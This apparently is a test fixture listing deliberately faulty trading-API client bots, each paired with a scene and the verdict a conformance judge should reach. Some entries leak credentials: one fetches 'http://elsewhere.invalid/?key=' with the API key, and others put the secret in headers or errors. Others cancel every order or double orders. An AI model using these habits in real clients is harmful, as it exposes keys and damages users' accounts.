import type { Caller, CallerWorld } from '../../../src/conformance/caller/judge-caller.js';
import type { CallerVerdict } from '../../../src/conformance/caller/problem.js';
import type { Word } from '../../../src/conformance/caller/intent.js';
import { ORDER } from '../../../src/conformance/caller/scenes.js';
import { ask, asCaller, createBot, type Failure, type Habits, OPEN_ORDERS } from './bot.js';

/** The register: programs with one bad habit, the scene that shows it, and the verdict on it there. */
export const BROKEN_CALLERS: (readonly [id: string, scene: string, verdict: CallerVerdict, caller: Caller])[] = [];

/** A program, or the one habit in which a bot differs from a right one. */
function broken(id: string, scene: string, verdict: CallerVerdict, program: Caller | Habits): void {
  BROKEN_CALLERS.push([id, scene, verdict, asCaller(program)]);
}

/** Sends these fields with other values; undefined leaves a field out. */
const withBody = (fields: Readonly<Record<string, unknown>>): Habits => ({
  shape(request) {
    if (request.body !== '') request.body = JSON.stringify({ ...JSON.parse(request.body), ...fields });
  },
});
const isLike = (failure: Failure, example: Failure): boolean =>
  Object.entries(example).every(([name, value]) => failure[name as keyof Failure] === value);
/** Sends once more after such a failure. */
const retries = (example: Failure): Habits => ({ tries: 2, retriesOn: (failure) => isLike(failure, example) });
/** Says this after such a failure, and "unknown" after another one. */
const says = (word: Word['outcome'], example: Failure = {}): Habits => ({
  lost: (failure) => (isLike(failure, example) ? word : 'unknown'),
});
const listed = async (world: CallerWorld) =>
  Object((await ask(world, OPEN_ORDERS)) ?? []) as readonly { orderId: string }[];
const asTable = (text: string): unknown => (text === '' ? {} : JSON.parse(text));

broken('retries-every-failure', 'lost-response/reset-after', 'doubled', { tries: 3 });
broken('retries-503', 'lost-response/503-after', 'doubled', retries({ status: 503 }));
broken('retries-504-alone', 'lost-response/504-after', 'doubled', retries({ status: 504 }));
broken('retries-timeouts', 'lost-response/no-response', 'doubled', retries({ status: undefined }));
broken('retries-cut-bodies', 'lost-response/truncated-after', 'doubled', retries({ status: undefined }));
broken('retries-endless-bodies', 'lost-response/stall-after', 'doubled', retries({ status: undefined }));
broken('retries-html', 'lost-response/html-after', 'doubled', retries({ code: undefined }));
broken('retries-empty', 'lost-response/empty-after', 'doubled', retries({ code: undefined }));
broken('retries-code-1007', 'lost-response/code-1007-after', 'doubled', retries({ code: '-1007' }));
broken('retries-unknown-codes', 'lost-response/unknown-code', 'doubled', retries({ code: '-9999' }));
broken('retries-under-a-new-name', 'lost-response/reset-after', 'doubled', { tries: 2, newName: true });
broken('retries-after-backoff', 'lost-response/503-after', 'doubled', { tries: 3, pauseMs: 1500 });
broken('retries-a-condition-order', 'condition-order/reset-after', 'doubled', { tries: 2 });
broken('retries-a-condition-order-after-503', 'condition-order/503-after', 'doubled', retries({ status: 503 }));
broken('retries-500', 'lost-response/500-after', 'doubled', retries({ status: 500 }));
broken('retries-502', 'lost-response/502-after', 'doubled', retries({ status: 502 }));
broken('denies-408', 'lost-response/408-after', 'denies', says('rejected', { status: 408 }));
broken('takes-a-failed-lookup-for-absent', 'lost-response/lookup-503', 'denies', { absentAtOnce: true });
broken('takes-a-rejected-lookup-for-absent', 'lost-response/lookup-refused', 'denies', { absentAtOnce: true });
broken('looks-on-after-429', 'lost-response/lookup-429', 'ignores-a-limit', { respectsLimits: false });
broken('takes-a-failed-read-for-an-empty-list', 'read/status-503', 'denies', { reads: 'failures' });
broken('takes-a-neighbour-for-its-own', 'not-taken/among-others', 'invents', async (world, intent) => {
  await ask(world, intent);
  return { outcome: 'accepted', orderId: (await listed(world))[0]!.orderId };
});
broken('cancels-one-order-of-a-contract', 'healthy/cancel-contract', 'invents', async (world, { input }) => {
  const [one] = await listed(world);
  await ask(world, { do: 'cancelOrder', input: { ...input, orderId: one!.orderId } });
  return { outcome: 'accepted' };
});
broken('cleans-up-before-it-orders', 'healthy/create-order', 'wipes', async (world, intent) => {
  await ask(world, { do: 'cancelAllOrders', input: {} });
  return createBot()(world, intent);
});
broken('orders-when-it-cancels', 'healthy/cancel-order', 'invents', async (world, intent) => {
  await ask(world, { do: 'createOrder', input: ORDER });
  return createBot()(world, intent);
});
broken('says-an-id-of-its-own', 'healthy/condition-order', 'invents', async (world, intent) => ({
  ...{ outcome: 'accepted', ...(await createBot()(world, intent)), orderId: '2006628908041292000' },
}));
broken('says-yes-and-sends-nothing', 'healthy/leverage', 'invents', async () => ({ outcome: 'accepted' }));
broken('logs-its-key-elsewhere', 'secrets/redirect', 'leaks', async (world, intent) => {
  const { fetch, credentials } = world;
  await ask(world, intent);
  await fetch(`http://elsewhere.invalid/?key=${credentials.apiKey}`).catch(() => undefined);
  return { outcome: 'unknown' };
});
broken('sends-its-secret-in-base64', 'healthy/create-order', 'leaks', {
  sent: ({ headers }, { credentials }) => void (headers['X-Auth'] = btoa(credentials.apiSecret)),
});
broken('denies-every-failure', 'lost-response/reset-after', 'denies', says('rejected'));
broken('denies-timeouts', 'lost-response/no-response', 'denies', says('not-sent', { status: undefined }));
broken('denies-504', 'lost-response/504-after', 'denies', says('rejected', { status: 504 }));
broken('denies-code-1006', 'lost-response/code-1006-after', 'denies', says('rejected', { code: '-1006' }));
broken('denies-unknown-codes', 'lost-response/unknown-code', 'denies', says('rejected', { code: '-9999' }));
broken('denies-large-responses', 'lost-response/large-after', 'denies', says('rejected', { error: undefined }));
broken('denies-cancels', 'cancel-order/reset-after', 'denies', says('rejected'));
broken('denies-a-leverage-change', 'leverage/503-after', 'denies', says('rejected'));
broken('denies-a-bulk-cancel', 'cancel-all/reset-after', 'denies', says('not-sent'));
broken('takes-a-short-page-for-the-last', 'read/short-page', 'denies', { reads: 'until-short' });
broken('looks-among-open-orders-alone', 'lost-response/short-list', 'denies', { looksInList: true });
broken('doubles-a-condition-order-after-504', 'condition-order/504-after', 'doubled', retries({ status: 504 }));
broken('denies-a-cancel-after-an-empty-response', 'cancel-order/empty-after', 'denies', says('rejected'));
broken('says-yes-to-a-rejected-leverage', 'leverage/refuse', 'invents', says('accepted'));
broken('looks-once', 'lost-response/stale-lookups', 'denies', { absentAtOnce: true });
broken('says-yes-to-an-empty-response', 'not-taken/status-421', 'invents', says('accepted'));
broken('says-yes-to-html', 'not-taken/html', 'invents', says('accepted'));
broken('says-yes-without-an-id', 'lost-response/no-order-id', 'invents', { withoutId: 'accepted' });
broken('says-yes-after-503', 'not-taken/status-503', 'invents', says('accepted'));
broken('rounds-the-id-of-its-order', 'healthy/create-order', 'invents', { parse: asTable });
broken('rounds-ids-of-a-list', 'read/open-orders', 'invents', { parse: asTable });
broken('reads-one-page', 'read/history', 'denies', { reads: 'one-page' });
broken('counts-records-twice', 'read/repeated-page', 'invents', { reads: 'everything' });
broken('retries-429-at-once', 'rate-limit/429', 'ignores-a-limit', { tries: 2, respectsLimits: false });
broken('ignores-retry-after', 'rate-limit/429-retry-after', 'ignores-a-limit', {
  tries: 2,
  pauseMs: 1200,
  respectsLimits: false,
});
broken('ignores-a-ban', 'rate-limit/418-retry-after', 'ignores-a-limit', { tries: 2, respectsLimits: false });
broken('ignores-410', 'rate-limit/410', 'ignores-a-limit', { tries: 2, respectsLimits: false });
broken('looks-up-at-once', 'rate-limit/429-retry-after', 'ignores-a-limit', async (world, intent) => {
  const word = await createBot({ respectsLimits: false })(world, intent);
  await ask(world, OPEN_ORDERS);
  return word;
});
broken('signs-once', 'rate-limit/429-retry-after', 'breaks-the-contract', { tries: 2, signsOnce: true });
broken('cancels-a-whole-contract', 'healthy/cancel-order', 'wipes', withBody({ orderId: undefined }));
broken('cancels-with-an-empty-id', 'healthy/cancel-order', 'wipes', withBody({ orderId: '' }));
broken('cancels-the-contract-for-an-order', 'cancel-order/status-503', 'wipes', {
  ...withBody({ orderId: undefined }),
  tries: 2,
});
broken('sells-for-buy', 'healthy/create-order', 'invents', withBody({ side: 'SELL' }));
broken('orders-ten-times-as-much', 'healthy/create-order', 'invents', withBody({ volume: 10 }));
broken('adds-ioc', 'healthy/create-order', 'invents', withBody({ timeInForce: 'IOC' }));
broken('sets-another-leverage', 'healthy/leverage', 'invents', withBody({ nowLevel: 8 }));
broken('cancels-everything', 'healthy/cancel-contract', 'wipes', {
  shape(request) {
    if (request.target === '/fapi/v1/cancel') Object.assign(request, { target: '/fapi/v1/cancel_all', body: '' });
  },
});
broken('runs-twice', 'restart/two-at-once', 'doubled', { runsAlone: true });
broken('follows-redirects', 'secrets/redirect', 'leaks', { redirect: 'follow' });
broken('throws-its-secret', 'healthy/create-order', 'leaks', async ({ credentials }) => {
  throw Object.assign(new Error('failed'), { credentials });
});
broken('sends-its-secret', 'healthy/create-order', 'leaks', {
  sent: ({ headers }, { credentials }) => void (headers['X-CH-SECRET'] = credentials.apiSecret),
});
broken('sends-prices-as-text', 'healthy/create-order', 'breaks-the-contract', withBody({ price: '60000.1' }));
broken(
  'sends-a-field-that-is-not-declared',
  'healthy/create-order',
  'breaks-the-contract',
  withBody({ recvWindow: 5000 }),
);
broken('leaves-a-required-field-out', 'healthy/create-order', 'breaks-the-contract', withBody({ open: undefined }));
broken('sends-another-word', 'healthy/create-order', 'breaks-the-contract', withBody({ timeInForce: 'GTC' }));
broken('signs-in-seconds', 'healthy/create-order', 'breaks-the-contract', {
  sent: ({ headers }) => void (headers['X-CH-TS'] = headers['X-CH-TS']!.slice(0, 10)),
});
broken('signs-without-the-body', 'healthy/create-order', 'breaks-the-contract', {
  sent: (request) => void (request.headers['X-CH-SIGN'] = 'ab'.repeat(32)),
});
broken('calls-another-path', 'healthy/create-order', 'breaks-the-contract', {
  shape: (request) => void (request.target = request.target.replace('/order', '/orders')),
});
broken('asks-for-too-large-pages', 'read/history', 'breaks-the-contract', {
  shape: (request) => void (request.target = request.target.replace('limit=2', 'limit=5000')),
});
broken('cancels-a-rounded-id', 'healthy/cancel-order', 'breaks-the-contract', {
  shape: (request) => void (request.body = request.body.replace(/\d{16,}/, (id) => String(Number(id)))),
});
